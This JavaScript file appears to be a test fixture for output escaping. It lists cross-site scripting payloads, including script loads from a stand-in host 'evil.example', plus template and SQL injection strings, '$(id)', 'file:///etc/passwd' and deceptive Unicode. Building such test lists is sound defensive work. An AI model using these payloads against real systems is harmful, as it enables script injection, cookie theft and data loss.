// Texts that would do harm if anything but text were made of them. Each is one line and serves as a
// message, a title and a topic.
const HARM = "alert(document.cookie)";

/** Markup that runs script by itself. */
const MARKUP = [
  `<script>${HARM}</script>`, `<script src=//evil.example/x.js></script>`, `</title><script>${HARM}</script>`, `</textarea><script>${HARM}</script>`,
  `--><script>${HARM}</script><!--`, `<!--<img src="--><img src=x onerror=${HARM}//">`, `<ScRiPt>${HARM}</sCrIpT>`, `<scr<script>ipt>${HARM}</scr</script>ipt>`,
  `<img src=x onerror=${HARM}>`, `<img src=x:x onerror="${HARM}">`, `"><img src=x onerror=${HARM}>`, `'><img src=x onerror=${HARM}>`, "<img src=`x` onerror=alert(1)>",
  `<img/src=x/onerror=${HARM}>`, `<svg onload=${HARM}>`, `<svg/onload=${HARM}//`, `<svg><script>${HARM}</script></svg>`, `<svg><animate onbegin=${HARM} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HARM}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${HARM}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${HARM}</script>">`, `<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=${HARM}>`,
  `<body onload=${HARM}>`, `<iframe src="javascript:${HARM}"></iframe>`, `<iframe srcdoc="<script>parent.${HARM}</script>">`, `<object data="javascript:${HARM}">`,
  `<embed src="javascript:${HARM}">`, `<video><source onerror=${HARM}></video>`, `<audio src=x onerror=${HARM}>`, `<details open ontoggle=${HARM}>x</details>`,
  `<input autofocus onfocus=${HARM}>`, `<select autofocus onfocus=${HARM}>`, `<marquee onstart=${HARM}>x</marquee>`, `<dialog open onclose=${HARM}><form method=dialog>`,
  `<a href="javascript:${HARM}">click</a>`, `<form action="javascript:${HARM}"><button>x</button></form>`, `<meta http-equiv=refresh content="0;url=javascript:${HARM}">`,
  `<base href="https://evil.example/">`, `<link rel=stylesheet href="//evil.example/x.css">`, `<style>@import "//evil.example/x.css"; * { display: none }</style>`,
  `<div style="position:fixed;inset:0;background:url(javascript:${HARM})">x</div>`, `<template><img src=x onerror=${HARM}></template>`, `<x onclick=${HARM} tabindex=1 id=x>`,
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
];

/** Text that some frameworks, shells and databases would execute. */
const CODE = [
  "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>", "{{7*7}}", "`${alert(1)}`", "'-alert(1)-'", "\";alert(1)//", "'; DROP TABLE messages; --",
  "$(id)", "__proto__", "constructor", "[object Object]", "null", "%s%s%n",
];

/** Addresses. Those of the last line are good and become links; the others stay text. */
const ADDRESSES = [
  `javascript:${HARM}`, `JaVaScRiPt:${HARM}`, `  javascript:${HARM}`, `javascript://example.com/%0a${HARM}`, "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
  "file:///etc/passwd", "blob:https://example.com/x", "//evil.example", "httpx://example.com", "xhttp://example.com",
  `https://example.com/"onmouseover="${HARM}`, `https://example.com/<img src=x onerror=${HARM}>`, "https://javascript:alert(1)@example.com/", "[x](javascript:alert(1))",
  "https://example.com", "http://example.com/a?b=c&d=%20#e", "see https://example.com/(brackets), or not", "mailto:anna@example.com", "https://xn--e1awd7f.example/",
];

/** Characters that reverse, hide, pile up or never end. */
const LETTERS = [
  "\u202Eevil\u202C", "\u2066left\u2069 \u2067right\u2069", "a\u200Bb\u200Cc\u200Dd\uFEFFe", "e\u0301".repeat(20), `Z${"\u0310\u0335\u0489".repeat(20)}`, "مرحبا <b>bold</b> שלום",
  "👩‍👩‍👧‍👦🏳️‍🌈".repeat(5), "W".repeat(2_000), "﷽".repeat(70), "\u00A0x\u00A0", "ﬁ ① Å",
];

export const PAYLOADS = [...MARKUP, ...CODE, ...ADDRESSES, ...LETTERS].map((text) => text.trim());
